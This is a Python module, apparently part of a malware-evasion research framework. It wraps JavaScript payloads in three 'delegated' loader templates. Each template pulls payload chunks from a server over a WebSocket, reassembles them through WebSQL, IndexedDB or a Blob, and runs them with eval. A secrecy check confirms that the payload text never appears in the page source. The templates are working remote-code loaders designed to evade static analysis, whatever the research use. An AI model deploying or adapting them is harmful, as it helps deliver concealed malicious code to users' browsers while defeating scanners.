"""Delegated preparation: the storage engine reassembles the chunks.

The page never concatenates chunks itself.  WebSQL joins them with an
aggregate query, IndexedDB hands them back through a cursor, and the Blob
route appends raw messages and reads the blob back as text.
"""

from __future__ import annotations

import enum

from ..js.source import FileSet, SourceFile
from ..emulator.trace import code_hash
from .bundle import StagedBundle, Technique, check_secrecy
from .chunks import ChunkPlan, ChunkPolicy, split_payload
from .sample import AnnotatedSample, feed_for, server_prelude, with_loader


class Backend(str, enum.Enum):
    WEBSQL = "WebSQL"
    INDEXEDDB = "IndexedDB"
    BLOB = "Blob"


TECHNIQUE_OF = {
    Backend.WEBSQL: Technique.DELEGATED_WEBSQL,
    Backend.INDEXEDDB: Technique.DELEGATED_INDEXEDDB,
    Backend.BLOB: Technique.DELEGATED_BLOB,
}

WEBSQL_LOADER = """var malicious_code = "";
var db = openDatabase("cache", "1.0", "offline cache", 1048576);
db.transaction(function (tx) {
    tx.executeSql("CREATE TABLE IF NOT EXISTS Cache (id, chunk)", []);
});
var ws = new WebSocket("ws://" + server + ":" + port + "/ws");
ws.onmessage = function (evt) {
    db.transaction(function (tx) {
        tx.executeSql("INSERT INTO Cache (id, chunk) VALUES (?, ?)", [evt.data.id, evt.data.chunk]);
    });
};
ws.onclose = function () {
    db.transaction(function (tx) {
        tx.executeSql('SELECT *, GROUP_CONCAT(chunk, "") AS full FROM Cache', [], function (tx, results) {
            malicious_code = results.rows.item(0).full;
            eval(malicious_code);
        }, null);
    });
};
"""

INDEXEDDB_LOADER = """var storeObject = null;
var openRequest = indexedDB.open("cache", 1);
openRequest.onupgradeneeded = function (e) {
    var database = e.target.result;
    database.createObjectStore("chunks", {keyPath: "id"});
};
openRequest.onsuccess = function (e) {
    storeObject = e.target.result.transaction(["chunks"], "readwrite").objectStore("chunks");
};
var ws = new WebSocket("ws://" + server + ":" + port + "/ws");
ws.onmessage = function (evt) {
    var row = {
        "chunk": evt.data.chunk,
        "id": evt.data.id
    };
    var request = storeObject.add(row);
};
ws.onclose = function () {
    var parts = [];
    var cursorRequest = storeObject.openCursor();
    cursorRequest.onsuccess = function (e) {
        var result = e.target.result;
        if (!!result == false)
            return launch();
        parts.push(result.value.chunk);
        result.continue();
    };
    function launch() {
        eval(parts.join(""));
    }
};
"""

BLOB_LOADER = """var PAYLOAD = null;
function process(code) {
    eval(code);
}
function init() {
    var bb = new BlobBuilder();
    var ws = new WebSocket("ws://" + server + ":" + port + "/ws");
    ws.onopen = function () {
        ws.send("Hello!");
    };
    ws.onmessage = function (evt) {
        bb.append(evt.data);
    };
    ws.onclose = function (evt) {
        var blob = bb.getBlob();
        var fr = new FileReader();
        fr.onload = function (e) {
            PAYLOAD = e.target.result;
            process(PAYLOAD);
        };
        fr.readAsText(blob);
    };
}
init();
"""

LOADERS = {Backend.WEBSQL: WEBSQL_LOADER, Backend.INDEXEDDB: INDEXEDDB_LOADER, Backend.BLOB: BLOB_LOADER}


def secrecy_limit(plan: ChunkPlan, policy: ChunkPolicy) -> int:
    return policy.chunk_size if policy.mode == "fixed_size" else max(1, plan.max_chunk_len)


def staging_metadata(sample: AnnotatedSample, plan: ChunkPlan) -> dict:
    region = sample.region_text
    return {"plan": plan.to_json(), "staging_hash": code_hash(region), "staging_len": len(region)}


def plan_delegated(sample: AnnotatedSample, backend: Backend | str, policy: ChunkPolicy = ChunkPolicy()) -> StagedBundle:
    """Replace the region with a loader that rebuilds it through ``backend``."""
    backend = Backend(backend)
    sample.validate()
    plan = split_payload(sample.region_text, policy)
    page = with_loader(sample, server_prelude() + LOADERS[backend])
    files = FileSet([SourceFile("page.js", page, "page")])
    if backend is Backend.WEBSQL:
        # rowid order is the reassembly order, so the wire order must be the id order
        feed = feed_for(plan)
    elif backend is Backend.INDEXEDDB:
        feed = feed_for(plan, shuffle_seed=policy.seed)
    else:
        feed = feed_for(plan, framing="text")
    check_secrecy(files, sample.region_text, secrecy_limit(plan, policy))
    return StagedBundle(
        technique=TECHNIQUE_OF[backend],
        sample_id=sample.id,
        files=files,
        feed=feed,
        chunk_size=policy.chunk_size,
        seed=policy.seed,
        metadata={"backend": backend.value, **staging_metadata(sample, plan)},
    )
